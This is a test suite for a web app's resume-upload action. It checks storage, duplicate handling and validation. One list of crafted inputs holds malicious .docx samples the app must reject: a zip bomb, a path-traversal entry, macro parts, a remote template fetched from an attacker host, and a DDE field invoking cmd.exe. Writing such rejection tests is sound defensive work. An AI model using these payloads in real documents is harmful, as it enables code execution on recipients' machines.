import { createHash } from "node:crypto";
import { strToU8 } from "fflate";
import { sql } from "kysely";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { callAction, flashToastOf, makeContext, unwrap } from "../../../tests/support/context";
import {
  startTestServices,
  testEngines,
  TestClock,
  type TestServices,
} from "../../../tests/support/databases";
import {
  contentTypesXml,
  docxFiles,
  documentXml,
  minimalDocx,
  relsXml,
  zipOf,
} from "../../../tests/support/docx-fixtures";
import { action, loader } from "./resume-review";

const answers = {
  firstName: "Grace",
  lastName: "Hopper",
  email: "Grace.Hopper@Example.com",
  university: "State University",
  graduationYear: "2028",
};

const MB = 1024 * 1024;
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

interface Body {
  result: { error?: Record<string, string[]> } | null;
  toast?: { title: string; description: string; durationMs?: number };
}

/** A multipart POST as the browser sends it, with the resume as a file part. */
function multipartRequest(
  fields: Record<string, string>,
  resume?: { bytes: Uint8Array; name: string },
) {
  const body = new FormData();
  for (const [key, value] of Object.entries(fields)) body.append(key, value);
  if (resume)
    body.append(
      "resume",
      new File([resume.bytes as Uint8Array<ArrayBuffer>], resume.name, { type: DOCX }),
    );
  return new Request("http://localhost:3000/resume-review", { method: "POST", body });
}

describe.each(testEngines())("resume review on $name", (engine) => {
  let t: TestServices;
  const clock = new TestClock();
  let ipCounter = 0;

  beforeAll(async () => {
    t = await startTestServices(engine, { clock });
  });
  afterAll(async () => {
    await t.cleanup();
  });
  beforeEach(async () => {
    clock.advance(120_000);
    for (const table of ["uploads", "submissions", "outbox", "people"] as const) {
      await t.services.db.deleteFrom(table).execute();
    }
  });

  const submit = async (
    resume: { bytes: Uint8Array; name: string } | undefined,
    fields: Record<string, string> = answers,
    visitorId: string | null = "visitor-9",
  ) => {
    const response = await unwrap(
      await callAction(
        action,
        multipartRequest(fields, resume),
        makeContext(t.services, { visitorId, ip: `10.2.0.${++ipCounter}` }),
      ),
    );
    return {
      status: response.status,
      /** Where a redirect sends the browser; null when the action answered with data. */
      location: response.headers.get("location"),
      /** The toast the next page shows (successes), from the flash cookie. */
      flash: await flashToastOf(response, t.services),
      /** The action data (failures): field errors and the toast. */
      body: response.body as Body,
    };
  };
  /** Whether the page a redirect lands on shows the confirmation, as its loader says. */
  const showsSent = (location: string | null) =>
    loader({ request: new Request(`http://localhost:3000${location}`) } as never).sent;
  const count = async (table: "people" | "submissions" | "outbox" | "uploads") =>
    Number(
      (
        await t.services.db
          .selectFrom(table)
          .select((eb) => eb.fn.countAll().as("n"))
          .executeTakeFirstOrThrow()
      ).n,
    );
  const expectNothingStored = async () => {
    for (const table of ["people", "submissions", "outbox", "uploads"] as const)
      expect(await count(table), table).toBe(0);
  };

  it("stores a real .docx with its metadata, links it from the submission and confirms by email", async () => {
    const bytes = minimalDocx("Grace Hopper, resume");
    const { status, location, flash } = await submit({ bytes, name: "My Resume.docx" });
    expect(status).toBe(303);
    expect(location).toBe("/resume-review?sent=1");
    expect(showsSent(location)).toBe(true);
    expect(flash).toMatchObject({
      title: "Success!",
      description:
        "Your resume has been submitted for review. We'll notify you when your review is scheduled.",
    });

    const person = await t.services.db.selectFrom("people").selectAll().executeTakeFirstOrThrow();
    expect(JSON.parse(person.tags)).toEqual(["resume_review_lead"]);
    expect(JSON.parse(person.lead_magnets)).toEqual(["resume_review"]);
    expect(person.last_lead_magnet_type).toBe("resume_review");

    const upload = await t.services.db.selectFrom("uploads").selectAll().executeTakeFirstOrThrow();
    const name = `grace_hopper@example_com_${clock.now().getTime()}.docx`;
    expect(upload).toMatchObject({
      person_id: person.id,
      name,
      full_path: `resume-reviews/${name}`,
      content_type: DOCX,
      size: bytes.byteLength,
      sha256: createHash("sha256").update(bytes).digest("hex"),
      review_status: "waiting",
      scheduled_for: null,
      created_at: clock.now().toISOString(),
    });
    expect(Buffer.from(upload.data).equals(Buffer.from(bytes))).toBe(true);

    const submission = await t.services.db
      .selectFrom("submissions")
      .selectAll()
      .executeTakeFirstOrThrow();
    expect(upload.submission_id).toBe(submission.id);
    expect(submission).toMatchObject({
      type: "lead_magnet",
      status: "completed",
      source: "direct",
    });
    expect(JSON.parse(submission.form_data)).toMatchObject({
      email: "grace.hopper@example.com",
      resourceType: "resume_review",
      resumeUrl: `/admin/uploads/${upload.id}`,
    });

    const email = await t.services.db.selectFrom("outbox").selectAll().executeTakeFirstOrThrow();
    expect(email).toMatchObject({
      kind: "lead_resume_review",
      to_address: "grace.hopper@example.com",
      subject: "We received your resume",
    });
    expect(email.text).toContain("Hi Grace,");
  });

  it("stores the same file sent twice within a minute once, and again later", async () => {
    const resume = { bytes: minimalDocx(), name: "cv.docx" };
    await submit(resume);
    clock.advance(10_000);
    const second = await submit(resume);
    expect(second.location).toBe("/resume-review?sent=1");
    expect(second.flash?.title).toBe("Success!");
    expect(await count("uploads")).toBe(1);
    expect(await count("outbox")).toBe(1);
    clock.advance(61_000);
    await submit(resume);
    expect(await count("uploads")).toBe(2);
    expect(await count("submissions")).toBe(2);
    const person = await t.services.db.selectFrom("people").selectAll().executeTakeFirstOrThrow();
    expect(JSON.parse(person.tags)).toEqual(["resume_review_lead"]);
  });

  it("refuses a missing file", async () => {
    const { status, body } = await submit(undefined);
    expect(status).toBe(400);
    expect(body.toast).toMatchObject({ title: "Error", description: "Please upload your resume" });
    expect(body.result?.error?.resume).toEqual(["Please upload your resume"]);
    await expectNothingStored();
  });

  it.each(["resume.pdf", "resume.doc", "resume.docx.exe", "resume"])(
    "refuses the file name %j",
    async (name) => {
      const { status, body } = await submit({ bytes: minimalDocx(), name });
      expect(status).toBe(400);
      expect(body.toast).toMatchObject({
        title: "Invalid File Type",
        description: "Please upload a .docx file",
      });
      await expectNothingStored();
    },
  );

  const withoutContentTypes = () => {
    const files = docxFiles();
    delete files["[Content_Types].xml"];
    return zipOf(files);
  };
  const crafted: [string, () => Uint8Array][] = [
    ["a renamed text file", () => strToU8("Grace Hopper\nRear admiral\n")],
    [
      "a zip bomb",
      () =>
        zipOf({ ...docxFiles(), "word/media/zeros.bin": new Uint8Array(30 * MB) }, { level: 9 }),
    ],
    ["a path traversal entry", () => zipOf({ ...docxFiles(), "../../evil.txt": "x" })],
    [
      "a macro part",
      () => zipOf({ ...docxFiles(), "word/vbaProject.bin": new Uint8Array([1, 2, 3]) }),
    ],
    [
      "a macro-enabled document",
      () =>
        zipOf({
          ...docxFiles(),
          "[Content_Types].xml": contentTypesXml(
            "application/vnd.ms-word.document.macroEnabled.main+xml",
          ),
        }),
    ],
    ["a zip without content types", withoutContentTypes],
    [
      "a remote attached template",
      () =>
        zipOf({
          ...docxFiles(),
          "word/_rels/settings.xml.rels": relsXml([
            {
              id: "rId1",
              type: "attachedTemplate",
              target: "https://attacker.example/cv.dotm",
              external: true,
            },
          ]),
        }),
    ],
    [
      "a DDE field",
      () =>
        zipOf({
          ...docxFiles(),
          "word/document.xml": documentXml(
            `<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>`,
          ),
        }),
    ],
  ];

  it.each(crafted)("refuses %s named .docx by its content", async (_, make) => {
    const { status, body } = await submit({ bytes: make(), name: "resume.docx" });
    expect(status).toBe(400);
    expect(body.toast).toMatchObject({
      title: "Invalid File Type",
      description: "Please upload a .docx file",
      durationMs: 7000,
    });
    expect(body.result?.error?.resume).toEqual(["Please upload a .docx file"]);
    await expectNothingStored();
  });

  it("refuses a file over 5 MB with a message about the limit", async () => {
    const files = { ...docxFiles(), "word/media/noise.bin": new Uint8Array(5 * MB) };
    const { status, body } = await submit({ bytes: zipOf(files, { level: 0 }), name: "cv.docx" });
    expect(status).toBe(400);
    expect(body.toast?.title).toBe("File Too Large");
    expect(body.toast?.description).toContain("5 MB");
    await expectNothingStored();
  });

  it("answers a body that is not valid multipart with the generic error", async () => {
    const request = new Request("http://localhost:3000/resume-review", {
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
      body: '--xyz\r\nContent-Disposition: form-data; name="resume"; filename="a.docx"\r\n\r\ncut',
    });
    const response = await unwrap(
      await callAction(action, request, makeContext(t.services, { ip: "10.3.0.1" })),
    );
    expect(response.status).toBe(400);
    expect((response.body as Body).toast?.description).toBe(
      "There was a problem processing your request. Please try again or contact support.",
    );
    await expectNothingStored();
  });

  it("keeps the answers when refusing, so the form stays filled", async () => {
    const { body } = await submit({ bytes: strToU8("hi"), name: "cv.docx" });
    expect((body.result as { initialValue?: Record<string, unknown> }).initialValue).toMatchObject({
      firstName: "Grace",
      email: "Grace.Hopper@Example.com",
    });
  });

  it("refuses a submission without a visitor id and stores nothing", async () => {
    const { status, body } = await submit({ bytes: minimalDocx(), name: "cv.docx" }, answers, null);
    expect(status).toBe(400);
    expect(body.toast?.description).toBe(
      "Error: No authenticated user UID found. Please try again or contact support.",
    );
    await expectNothingStored();
  });

  it("answers a filled honeypot like success and stores nothing", async () => {
    const { status, location, flash } = await submit(
      { bytes: minimalDocx(), name: "cv.docx" },
      {
        ...answers,
        website: "spam",
      },
    );
    expect(status).toBe(303);
    expect(location).toBe("/resume-review?sent=1");
    expect(flash?.title).toBe("Success!");
    await expectNothingStored();
  });

  it.each([
    ["the storage is gone", sql`drop table uploads`],
    // Reading for double submits still works; only writing the file fails.
    ["writing the file fails", sql`alter table uploads rename column data to data_moved`],
  ])("says the upload failed, and keeps nothing, when %s", async (_, breakStorage) => {
    await breakStorage.execute(t.services.db);
    try {
      const { status, location, body } = await submit({ bytes: minimalDocx(), name: "cv.docx" });
      expect(status).toBe(500);
      expect(location).toBeNull();
      expect(body.toast).toMatchObject({
        title: "Error",
        description: "Failed to upload resume. Please try again or contact support.",
        durationMs: 7000,
      });
      for (const table of ["people", "submissions", "outbox"] as const)
        expect(await count(table), table).toBe(0);
    } finally {
      await t.cleanup();
      t = await startTestServices(engine, { clock });
    }
  });
});
